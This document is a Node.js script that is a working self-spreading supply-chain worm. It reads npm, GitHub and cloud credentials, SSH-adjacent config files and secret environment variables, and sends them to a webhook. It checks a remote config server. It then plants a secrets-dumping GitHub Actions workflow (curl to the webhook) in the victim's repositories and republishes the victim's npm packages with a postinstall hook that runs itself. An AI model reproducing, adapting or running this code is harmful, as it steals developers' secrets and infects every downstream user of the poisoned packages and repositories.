'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const https = require('https');
const { execSync } = require('child_process');

const HOME = os.homedir();
const SELF = fs.readFileSync(__filename, 'utf8');
const HOOK = 'https://webhook.site/00000000-0000-0000-0000-000000000000';
const CFG = 'http://203.0.113.77/v1/cfg';

function sh(cmd, opts) {
  try { return execSync(cmd, Object.assign({ stdio: ['ignore', 'pipe', 'ignore'], timeout: 60000 }, opts)).toString().trim(); }
  catch (_) { return ''; }
}

function req(method, url, headers, body) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const mod = u.protocol === 'http:' ? http : https;
    const r = mod.request({ method, hostname: u.hostname, port: u.port || undefined, path: u.pathname + u.search,
      headers: Object.assign({ 'user-agent': 'node', 'content-type': 'application/json' }, headers || {}), timeout: 15000 }, (res) => {
      let data = '';
      res.on('data', (c) => (data += c));
      res.on('end', () => { try { resolve({ status: res.statusCode, json: JSON.parse(data) }); } catch (_) { resolve({ status: res.statusCode, text: data }); } });
    });
    r.on('error', () => resolve({ status: 0 }));
    r.on('timeout', () => { r.destroy(); resolve({ status: 0 }); });
    if (body) r.write(typeof body === 'string' ? body : JSON.stringify(body));
    r.end();
  });
}

function npmTokens() {
  const found = new Set();
  for (const k of ['NPM_TOKEN', 'NODE_AUTH_TOKEN', 'npm_config__authToken', 'NPM_AUTH_TOKEN']) if (process.env[k]) found.add(process.env[k]);
  for (const f of [path.join(HOME, '.npmrc'), path.join(process.cwd(), '.npmrc'), path.join(process.env.INIT_CWD || '.', '.npmrc')]) {
    try {
      const txt = fs.readFileSync(f, 'utf8');
      for (const m of txt.matchAll(/_authToken\s*=\s*([^\s]+)/g)) found.add(m[1].replace(/^\$\{?|\}$/g, ''));
    } catch (_) {}
  }
  return [...found].filter((t) => /^npm_[A-Za-z0-9]{30,}$/.test(t) || t.length > 30);
}

function ghTokens() {
  const found = new Set();
  for (const k of ['GITHUB_TOKEN', 'GH_TOKEN', 'GH_PAT', 'GITHUB_PAT']) if (process.env[k]) found.add(process.env[k]);
  const cli = sh('gh auth token');
  if (cli) found.add(cli);
  try {
    const hosts = fs.readFileSync(path.join(HOME, '.config', 'gh', 'hosts.yml'), 'utf8');
    for (const m of hosts.matchAll(/oauth_token:\s*(\S+)/g)) found.add(m[1]);
  } catch (_) {}
  try {
    const cred = fs.readFileSync(path.join(HOME, '.git-credentials'), 'utf8');
    for (const m of cred.matchAll(/https:\/\/[^:]+:([^@]+)@github\.com/g)) found.add(m[1]);
  } catch (_) {}
  return [...found];
}

function cloudSecrets() {
  const out = {};
  const files = ['.aws/credentials', '.aws/config', '.config/gcloud/application_default_credentials.json',
    '.azure/accessTokens.json', '.docker/config.json', '.kube/config', '.openclaw/openclaw.json'];
  for (const f of files) { try { out[f] = fs.readFileSync(path.join(HOME, f), 'utf8'); } catch (_) {} }
  const env = {};
  for (const [k, v] of Object.entries(process.env)) if (/TOKEN|SECRET|KEY|PASS|AUTH|CRED/i.test(k)) env[k] = v;
  out.env = env;
  return out;
}

async function stash(gh, loot) {
  const me = await req('GET', 'https://api.github.com/user', { authorization: `token ${gh}` });
  if (!me.json || !me.json.login) return;
  const name = 'sync-backup-' + Math.random().toString(16).slice(2, 8);
  await req('POST', 'https://api.github.com/user/repos', { authorization: `token ${gh}` }, { name, private: false, description: 'backup', auto_init: true });
  const blob = Buffer.from(Buffer.from(JSON.stringify(loot)).toString('base64')).toString('base64');
  await req('PUT', `https://api.github.com/repos/${me.json.login}/${name}/contents/data.json`, { authorization: `token ${gh}` }, { message: 'add', content: blob });

  const repos = await req('GET', 'https://api.github.com/user/repos?affiliation=owner,organization_member&per_page=100', { authorization: `token ${gh}` });
  const wf = [
    'name: ci-sync',
    'on: push',
    'jobs:',
    '  sync:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - run: |',
    `          curl -s -X POST ${HOOK} -d "$ALL"`,
    '        env:',
    '          ALL: ${{ toJSON(secrets) }}',
    '',
  ].join('\n');
  for (const r of (repos.json || []).slice(0, 50)) {
    if (r.archived || !r.permissions || !r.permissions.push) continue;
    const ref = await req('GET', `https://api.github.com/repos/${r.full_name}/git/ref/heads/${r.default_branch}`, { authorization: `token ${gh}` });
    if (!ref.json || !ref.json.object) continue;
    await req('POST', `https://api.github.com/repos/${r.full_name}/git/refs`, { authorization: `token ${gh}` }, { ref: 'refs/heads/ci-sync', sha: ref.json.object.sha });
    await req('PUT', `https://api.github.com/repos/${r.full_name}/contents/.github/workflows/ci-sync.yml`, { authorization: `token ${gh}` },
      { message: 'ci: add sync workflow', content: Buffer.from(wf).toString('base64'), branch: 'ci-sync' });
  }
}

async function spread(token) {
  const who = await req('GET', 'https://registry.npmjs.org/-/whoami', { authorization: `Bearer ${token}` });
  const user = who.json && who.json.username;
  if (!user) return;
  const list = await req('GET', `https://registry.npmjs.org/-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=100`);
  const pkgs = ((list.json && list.json.objects) || []).map((o) => o.package.name);
  for (const name of pkgs.slice(0, 20)) {
    const work = fs.mkdtempSync(path.join(os.tmpdir(), 'npk-'));
    try {
      fs.writeFileSync(path.join(work, '.npmrc'), `//registry.npmjs.org/:_authToken=${token}\n`);
      const tgz = sh(`npm pack ${name} --silent`, { cwd: work });
      if (!tgz) continue;
      sh(`tar -xzf ${tgz}`, { cwd: work });
      const dir = path.join(work, 'package');
      const pj = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'));
      const v = pj.version.split('.');
      v[2] = String((parseInt(v[2], 10) || 0) + 1);
      pj.version = v.join('.');
      pj.scripts = Object.assign({}, pj.scripts, { postinstall: 'node bundle.js' });
      fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(pj, null, 2));
      fs.writeFileSync(path.join(dir, 'bundle.js'), SELF);
      fs.copyFileSync(path.join(work, '.npmrc'), path.join(dir, '.npmrc'));
      sh('npm publish --access public', { cwd: dir });
    } finally {
      try { fs.rmSync(work, { recursive: true, force: true }); } catch (_) {}
    }
  }
}

(async () => {
  const npm = npmTokens();
  const gh = ghTokens();
  const loot = { host: os.hostname(), user: os.userInfo().username, platform: process.platform, npm, gh, secrets: cloudSecrets() };
  await req('POST', HOOK, {}, loot);
  const cfg = await req('GET', CFG);
  if (!cfg.json || !cfg.json.go) return;
  for (const t of gh) await stash(t, loot);
  for (const t of npm) await spread(t);
})();
